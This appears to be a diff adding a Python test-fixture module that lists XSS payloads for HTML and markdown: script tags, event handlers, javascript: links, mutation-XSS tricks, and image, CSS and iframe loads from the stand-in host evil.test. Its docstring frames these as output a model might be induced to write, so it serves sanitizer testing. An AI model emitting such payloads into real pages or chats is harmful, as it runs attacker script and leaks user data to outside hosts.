@@ -1,0 +1,67 @@
+"""What a model might write, or be made to write, to run a script or to call another host.
+
+Each would leave its mark by `hit()`, or ask `evil.test` for something.
+"""
+
+from __future__ import annotations
+
+_MARKUP = (
+    "<script>hit()</script>",
+    "<script src='https://evil.test/x.js'></script>",
+    "<SCRIPT>hit()</SCRIPT>",
+    "<scr<script>ipt>hit()</scr</script>ipt>",
+    "<img src=x onerror=hit()>",
+    "<img src='https://evil.test/x.png'>",
+    "<img/src=x/onerror=hit()>",
+    "<svg onload=hit()>",
+    "<svg><script>hit()</script></svg>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+    "<svg><use href='https://evil.test/x.svg#x'></use></svg>",
+    "<math><mtext></p><img src=x onerror=hit()></mtext></math>",
+    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
+    "<iframe src='javascript:hit()'></iframe>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<iframe src='https://evil.test/'></iframe>",
+    "<object data='https://evil.test/x'></object>",
+    "<embed src='https://evil.test/x'>",
+    "<link rel=stylesheet href='https://evil.test/x.css'>",
+    "<style>@import 'https://evil.test/x.css';</style>",
+    "<style>body{background:url(https://evil.test/x.png)}</style>",
+    "<div style='background:url(https://evil.test/y.png)'>x</div>",
+    "<base href='https://evil.test/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
+    "<form action='https://evil.test/'><input autofocus onfocus=hit()></form>",
+    "<input autofocus onfocus=hit()>",
+    "<body onload=hit()>",
+    "<details open ontoggle=hit()>x</details>",
+    "<video><source onerror=hit()></video>",
+    "<audio src='https://evil.test/x.mp3' autoplay></audio>",
+    "<marquee onstart=hit()>x</marquee>",
+    "<template><img src=x onerror=hit()></template>",
+    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
+    "<a href='javascript:hit()'>x</a>",
+    "<textarea></textarea><img src=x onerror=hit()>",
+    "<!--><img src=x onerror=hit()>-->",
+    "<select><template shadowrootmode=open><img src=x onerror=hit()></template></select>",
+)
+_MARKDOWN = (
+    "[x](javascript:hit())",
+    "[x](JaVaScRiPt:hit())",
+    "[x](java\tscript:hit())",
+    "[x](&#106;avascript:hit())",
+    "[x](data:text/html,<script>hit()</script>)",
+    "[x](vbscript:hit())",
+    '[x](https://evil.test/ "\\"onmouseover=hit() x=\\"")',
+    "![x](https://evil.test/x.png)",
+    '![x](x"onerror="hit())',
+    "<javascript:hit()>",
+    "[x][1]\n\n[1]: javascript:hit()",
+    "```html\n<img src=x onerror=hit()>\n```",
+    '```"><img src=x onerror=hit()>\nx\n```',
+    "`<img src=x onerror=hit()>`",
+    "| <img src=x onerror=hit()> |\n|---|\n| <svg onload=hit()> |",
+    "$\\href{javascript:hit()}{x}$ $\\includegraphics{https://evil.test/x.png}$",
+    "$$\\htmlData{x=1}{x}\\url{javascript:hit()}<img src=x onerror=hit()>$$",
+    "$\\def\\a{\\a\\a}\\a$",
+)
+PAYLOADS = _MARKUP + _MARKDOWN
